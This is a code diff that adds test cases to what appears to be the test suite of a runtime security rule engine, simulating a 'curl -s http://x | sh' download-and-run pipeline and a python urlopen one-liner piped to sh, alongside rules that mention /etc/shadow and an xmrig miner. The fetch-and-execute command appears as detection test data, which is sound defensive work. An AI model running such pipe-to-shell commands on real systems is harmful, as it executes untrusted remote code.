@@ -376,6 +376,24 @@ Scene ex_stdio_swapped() {
     return s;
 }
 
+// `curl -s http://x | sh`: the shell's exec, curl having connected once.
+Scene ex_piped_shell() {
+    Scene s = exec_scene("/bin/sh", {"sh"});
+    s.has_pipe_self = true;
+    s.pipe_self = {4321, {"sh", "sh", "sh"}, "/bin/sh", "", 0, false};
+    s.stdin_writers = {{10, {"curl", "curl", "curl"}, "/usr/bin/curl", "-s http://x", 1, true}};
+    return s;
+}
+// The same pipeline seen from the writer: a python one-liner's first connect, sh reading.
+Scene ex_piped_writer() {
+    Scene s = connect_inet_scene("203.0.113.9", 80);
+    s.by("/usr/bin/python3", {"python3", "-c", "urlopen"});
+    s.has_pipe_self = true;
+    s.pipe_self = {4321, {"python3", "python3", "python3"}, "/usr/bin/python3", "-c urlopen", 1, false};
+    s.stdout_readers = {{11, {"sh", "sh", "sh"}, "/bin/sh", "-s", 0, false}};
+    return s;
+}
+
 // ---- loading and matching ------------------------------------------------------
 
 // Lists and macros that every row's rule file starts with.
@@ -1103,6 +1121,14 @@ const std::vector<Row> kRows = {
      "proc.stderr.rport = 4444 and proc.stderr.lport = 40000 and proc.stderr.l4proto = tcp and "
      "proc.stderr.ino = 5001 and proc.stdin.pipe = 777", ex_stdio_swapped, true},
     {"proc.stderr.type = ipv4 and proc.stderr.pipe exists", ex_stdio_swapped, false},
+    {"proc.stdin.writer.names = curl and proc.stdin.writer.exepath = /usr/bin/curl and "
+     "proc.stdin.writer.args = '-s http://x' and proc.stdin.writer.connected = true and proc.connects = 0",
+     ex_piped_shell, true},
+    {"proc.stdin.writer.names = wget or proc.stdin.writer.connected = false or proc.stdout.reader.names exists",
+     ex_piped_shell, false},
+    {"proc.stdout.reader.names = sh and proc.stdout.reader.exepath = /bin/sh and proc.stdout.reader.args = '-s' and "
+     "proc.stdout.reader.connected = false and proc.connects = 1", ex_piped_writer, true},
+    {"proc.connects exists or proc.stdin.writer.names exists or proc.stdout.reader.connected exists", ex_xmrig, false},
     {"fd.name != /etc/shadow", ex_xmrig, false},  // an unset field compares false, even with !=
     {"not fd.name = /etc/shadow", ex_xmrig, true},
     {"fd.name != /etc/shadow or proc.name = xmrig", ex_xmrig, true},
